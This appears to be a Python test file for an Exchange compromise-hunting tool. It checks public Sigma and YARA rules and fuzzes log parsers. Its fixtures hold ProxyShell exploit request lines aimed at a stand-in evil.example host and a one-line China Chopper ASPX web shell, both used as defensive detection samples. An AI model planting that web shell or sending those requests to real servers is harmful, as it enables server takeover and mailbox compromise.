"""Public Sigma and YARA rules run unmodified; line parsers hold under hypothesis."""

from __future__ import annotations

from pathlib import Path

from hypothesis import given, settings
from hypothesis import strategies as st

from exwatch.hunt import HuntOptions, hunt_paths
from exwatch.hunt.sources.lines import parse_ecp_eventdata, split_csv, split_w3c

IIS_HEAD = "#Software: Microsoft Internet Information Services 10.0\n#Version: 1.0\n#Date: 2021-08-10 00:00:00\n#Fields: date time s-ip cs-method cs-uri-stem cs-uri-query s-port cs-username c-ip cs(User-Agent) cs(Referer) sc-status sc-substatus sc-win32-status time-taken\n"


def test_public_sigma_webserver_rules_unmodified(tmp_path: Path, shared_reference: Path) -> None:
    root = tmp_path / "w" / "W3SVC1"
    root.mkdir(parents=True)
    (root / "u_ex210810.log").write_text(
        IIS_HEAD
        + "2021-08-10 08:01:00 10.0.0.5 GET /autodiscover/autodiscover.json @evil.example/mapi/nspi/?&Email=autodiscover/autodiscover.json%3F@evil.example 443 - 192.0.2.20 python-requests/2.26.0 - 401 0 0 20\n"
        + "2021-08-10 08:02:00 10.0.0.5 POST /autodiscover/autodiscover.json @evil.example/powershell/?X-Rps-CAT=VgEA&Email=autodiscover/autodiscover.json%3F@evil.example 443 - 192.0.2.20 python-requests/2.26.0 - 200 0 0 20\n"
    )
    rules = shared_reference / "public-rules" / "sigma"
    res = hunt_paths([root.parent], HuntOptions(jobs=1, builtin_rules=False, rule_dirs=(rules,)))
    got = {(f.rule, f.evidence.line) for f in res.findings}
    assert ("sigma.23eee45e-933b-49f9-ae1b-df706d2d52ef", 5) in got  # ProxyShell pattern (401)
    assert ("sigma.992be1eb-e5da-437e-9a54-6d13b57bb4d8", 6) in got  # successful ProxyShell
    assert ("sigma.992be1eb-e5da-437e-9a54-6d13b57bb4d8", 5) not in got
    wave = {f.rule: f.wave for f in res.findings}
    assert wave["sigma.992be1eb-e5da-437e-9a54-6d13b57bb4d8"] == "proxyshell"


def test_public_yara_chopper_unmodified(tmp_path: Path, shared_reference: Path) -> None:
    root = tmp_path / "y"
    root.mkdir()
    (root / "a.aspx").write_text('<%@ Page Language="Jscript"%><%eval(Request.Item["pass"],"unsafe");%>')
    (root / "b.txt").write_text('GET / <%@ Page Language="Jscript"%><%eval(Request.Item["pass"],"unsafe");%>')
    yar = shared_reference / "public-rules" / "yara" / "apt_webshell_chinachopper.yar"
    res = hunt_paths([root], HuntOptions(jobs=1, builtin_rules=False, yara_files=(yar,)))
    assert [(f.rule, f.evidence.file) for f in res.findings] == [("yara.ChinaChopper_Generic", "a.aspx")]


def test_public_msexchange_management_rule_on_real_evtx(shared_reference: Path, tmp_path: Path) -> None:
    """The real MSExchange Management record (Set-Mailbox) must not match the ProxyShell export rule."""
    rules = shared_reference / "public-rules" / "sigma"
    res = hunt_paths(
        [shared_reference / "evtx" / "MSExchange_Management_wec.evtx"],
        HuntOptions(jobs=1, rule_dirs=(rules,)),
    )
    assert res.hosts[0].coverage.logs["evtx"].records == 1
    # Only the parity-floor context: a Set- cmdlet in the Management log is listed at review, nothing more.
    assert [(f.rule, f.confidence) for f in res.findings] == [("postexploit.mgmt_set_cmdlet", "review")]
    assert res.hosts[0].verdict == "clean"


@given(
    st.lists(
        st.text(alphabet=st.characters(blacklist_characters="\r\n\x00"), max_size=20), min_size=1, max_size=12
    )
)
def test_csv_roundtrip(values: list[str]) -> None:
    line = ",".join('"' + v.replace('"', '""') + '"' for v in values)
    assert split_csv(line) == values


@given(
    st.lists(
        st.text(
            alphabet=st.characters(blacklist_characters=" \r\n", blacklist_categories=("Cs",)),
            min_size=1,
            max_size=15,
        ),
        min_size=1,
        max_size=15,
    )
)
def test_w3c_split(values: list[str]) -> None:
    got = split_w3c(" ".join(values))
    assert got == ["" if v == "-" else v for v in values]


@given(
    st.dictionaries(
        st.from_regex(r"S:[A-Z]{2,5}", fullmatch=True),
        st.text(
            alphabet=st.characters(blacklist_characters="\r\n", blacklist_categories=("Cs",)), max_size=30
        ),
        max_size=6,
    )
)
def test_ecp_items_roundtrip(items: dict[str, str]) -> None:
    text = ";".join("'" + f"{k}={v}".replace("'", "''") + "'" for k, v in items.items())
    assert parse_ecp_eventdata(text) == items


@given(st.binary(max_size=300))
def test_parsers_never_crash(data: bytes) -> None:
    text = data.decode("latin-1")
    fields = split_csv(text)
    assert fields and all(isinstance(f, str) for f in fields)
    if '"' not in text:
        assert ",".join(fields) == text  # an unquoted line splits losslessly
    w3c = split_w3c(text)
    assert len(w3c) == text.count(" ") + 1 and "-" not in w3c
    items = parse_ecp_eventdata(text)
    assert all(isinstance(k, str) and isinstance(v, str) for k, v in items.items())


def test_bad_user_rules_are_usage_errors(tmp_path: Path) -> None:
    from click.testing import CliRunner

    from exwatch.cli.main import cli

    data = Path(__file__).parent / "data" / "realworld"
    bad_sigma = tmp_path / "bad.yml"
    bad_sigma.write_text(
        "title: x\nlogsource: {category: webserver}\ndetection:\n  sel:\n    a|re: '(?!x)'\n  condition: sel\n"
    )
    res = CliRunner().invoke(cli, ["hunt", str(data), "--no-store", "--rules", str(bad_sigma)])
    assert res.exit_code == 2 and "bad.yml" in res.output
    bad_yara = tmp_path / "bad.yar"
    bad_yara.write_text('rule x { strings: $a = "x" condition: $b }')
    res = CliRunner().invoke(cli, ["hunt", str(data), "--no-store", "--yara", str(bad_yara)])
    assert res.exit_code == 2 and "bad.yar" in res.output and "YARA-X" in res.output


def test_yara_legacy_regex_compiles_relaxed(tmp_path: Path) -> None:
    root = tmp_path / "r"
    root.mkdir()
    (root / "a.aspx").write_text("abRc")
    legacy = tmp_path / "legacy.yar"
    legacy.write_text("rule legacy_escape { strings: $a = /ab\\Rc/ condition: $a }")
    res = hunt_paths([root], HuntOptions(jobs=1, builtin_rules=False, yara_files=(legacy,)))
    assert [f.rule for f in res.findings] == ["yara.legacy_escape"]
    assert any("relaxed" in n and "legacy.yar" in n for n in res.stats.notes)


_lit = st.text(alphabet="ab/", min_size=1, max_size=4)


@settings(max_examples=400, deadline=None)
@given(
    st.lists(st.frozensets(_lit, min_size=1, max_size=3), min_size=2, max_size=4),
    st.lists(st.text(alphabet="ab/. x", max_size=4), min_size=1, max_size=6),
    st.randoms(use_true_random=False),
)
def test_line_pattern_is_sound(groups: list[frozenset[str]], fillers: list[str], rnd: object) -> None:
    """A line holding a literal of every group always matches the rule's line pattern."""
    import random

    import re2

    from exwatch.hunt.rules.sigma_engine import pair_pattern

    assert isinstance(rnd, random.Random)
    picks = [rnd.choice(sorted(g)) for g in groups]
    rnd.shuffle(picks)
    line = ""
    for p in picks:
        if p not in line:  # a literal already inside another one is not written again
            line += p + rnd.choice(fillers)
    pattern = pair_pattern(tuple(groups))
    if pattern is None:
        return
    options = re2.Options()
    options.case_sensitive = False
    options.encoding = re2.Options.Encoding.LATIN1
    assert re2.compile(pattern, options).search(line.encode()) is not None, (groups, line, pattern)
